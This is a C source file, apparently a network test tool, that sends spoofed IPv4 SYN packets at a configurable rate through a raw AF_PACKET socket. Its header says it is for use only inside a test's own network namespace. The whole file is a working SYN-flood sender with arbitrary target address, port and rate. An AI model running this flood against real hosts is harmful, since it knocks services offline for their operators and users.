/* Spoofed IPv4 SYNs at a steady rate, straight onto a device (AF_PACKET, sendmmsg): the sender of a SYN flood.
 *
 * Sources are random addresses of 198.18.0.0/15 (RFC 2544: never seen elsewhere) with random ports; nobody answers the
 * SYN-ACKs, so each SYN leaves a half-open connection behind. Only to be run inside a test's own network namespace.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME 58 /* Ethernet 14 + IPv4 20 + TCP 20 + MSS option 4 */

typedef struct {
  int fd;
  uint8_t frame[FRAME];
  uint64_t random;
} Sender;

static uint64_t Random(Sender* sender) { /* xorshift64: enough to spread tuples, and replayable */
  sender->random ^= sender->random << 13;
  sender->random ^= sender->random >> 7;
  sender->random ^= sender->random << 17;
  return sender->random;
}

static uint32_t Sum(const uint8_t* bytes, size_t length, uint32_t sum) {
  for (size_t i = 0; i + 1 < length; i += 2) {
    sum += (uint32_t)(bytes[i] << 8 | bytes[i + 1]);
  }
  return sum;
}

static void StoreChecksum(uint8_t* at, uint32_t sum) {
  while (sum >> 16 != 0) {
    sum = (sum & 0xffff) + (sum >> 16);
  }
  at[0] = (uint8_t)(~sum >> 8);
  at[1] = (uint8_t)~sum;
}

static void NextFrame(Sender* sender, uint8_t* frame) {
  memcpy(frame, sender->frame, FRAME);
  uint8_t* ip = frame + 14;
  uint8_t* tcp = ip + 20;
  uint64_t random = Random(sender);
  ip[12] = 198;
  ip[13] = (uint8_t)(18 + (random & 1));
  ip[14] = (uint8_t)(random >> 8);
  ip[15] = (uint8_t)(random >> 16);
  uint16_t port = (uint16_t)(1024 + (random >> 24) % 64000);
  tcp[0] = (uint8_t)(port >> 8);
  tcp[1] = (uint8_t)port;
  uint32_t sequence = (uint32_t)Random(sender);
  memcpy(tcp + 4, &sequence, sizeof sequence);
  StoreChecksum(ip + 10, Sum(ip, 20, 0));
  StoreChecksum(tcp + 16, Sum(tcp, 24, Sum(ip + 12, 8, IPPROTO_TCP + 24)));
}

static void Prepare(Sender* sender, const char* device, const char* mac, const char* address, int port) {
  struct ifreq request;
  memset(&request, 0, sizeof request);
  snprintf(request.ifr_name, sizeof request.ifr_name, "%s", device);
  sender->fd = socket(AF_PACKET, SOCK_RAW, 0);
  if (sender->fd < 0 || ioctl(sender->fd, SIOCGIFHWADDR, &request) != 0) {
    perror("synflood");
    exit(1);
  }
  uint8_t* frame = sender->frame;
  unsigned to[6];
  if (sscanf(mac, "%x:%x:%x:%x:%x:%x", &to[0], &to[1], &to[2], &to[3], &to[4], &to[5]) != 6) {
    fprintf(stderr, "synflood: %s is no link address\n", mac);
    exit(2);
  }
  for (int i = 0; i < 6; ++i) {
    frame[i] = (uint8_t)to[i];
  }
  memcpy(frame + 6, request.ifr_hwaddr.sa_data, 6);
  const uint8_t ip[] = {0x08, 0x00, 0x45, 0, 0, FRAME - 14, 0, 0, 0x40, 0, 64, IPPROTO_TCP};
  memcpy(frame + 12, ip, sizeof ip);
  inet_pton(AF_INET, address, frame + 14 + 16);
  const uint8_t tcp[] = {(uint8_t)(port >> 8),
                         (uint8_t)port,
                         0,
                         0,
                         0,
                         0,
                         0,
                         0,
                         0,
                         0,
                         0x60,
                         0x02,
                         0xff,
                         0xff,
                         0,
                         0,
                         0,
                         0,
                         2,
                         4,
                         0x05,
                         0xb4};
  memcpy(frame + 34 + 2, tcp, sizeof tcp);
  ioctl(sender->fd, SIOCGIFINDEX, &request);
  struct sockaddr_ll link = {.sll_family = AF_PACKET, .sll_ifindex = request.ifr_ifindex};
  if (bind(sender->fd, (struct sockaddr*)&link, sizeof link) != 0) {
    perror("synflood: bind");
    exit(1);
  }
}

static long SendBatch(Sender* sender, long wanted) {
  uint8_t frames[BATCH][FRAME];
  struct iovec parts[BATCH];
  struct mmsghdr messages[BATCH];
  memset(messages, 0, sizeof messages);
  unsigned count = wanted < BATCH ? (unsigned)wanted : BATCH;
  for (unsigned i = 0; i < count; ++i) {
    NextFrame(sender, frames[i]);
    parts[i] = (struct iovec){.iov_base = frames[i], .iov_len = FRAME};
    messages[i].msg_hdr.msg_iov = &parts[i];
    messages[i].msg_hdr.msg_iovlen = 1;
  }
  int sent = sendmmsg(sender->fd, messages, count, 0);
  return sent < 0 ? 0 : sent;
}

int main(int argc, char** argv) {
  if (argc != 8) {
    fprintf(stderr, "usage: synflood DEVICE LINK-ADDRESS ADDRESS PORT RATE SECONDS SEED\n");
    return 2;
  }
  Sender sender = {.random = strtoull(argv[7], NULL, 10) * 2654435769u + 1};
  Prepare(&sender, argv[1], argv[2], argv[3], atoi(argv[4]));
  double rate = atof(argv[5]), seconds = atof(argv[6]);
  struct timespec start, now;
  clock_gettime(CLOCK_MONOTONIC, &start);
  long sent = 0;
  for (;;) {
    clock_gettime(CLOCK_MONOTONIC, &now);
    double elapsed = (double)(now.tv_sec - start.tv_sec) + (double)(now.tv_nsec - start.tv_nsec) / 1e9;
    if (elapsed >= seconds) {
      break;
    }
    long due = (long)(elapsed * rate) - sent;
    if (due > 0) {
      sent += SendBatch(&sender, due);
    } else {
      usleep(1000);
    }
  }
  printf("{\"sent\": %ld}\n", sent);
  return 0;
}
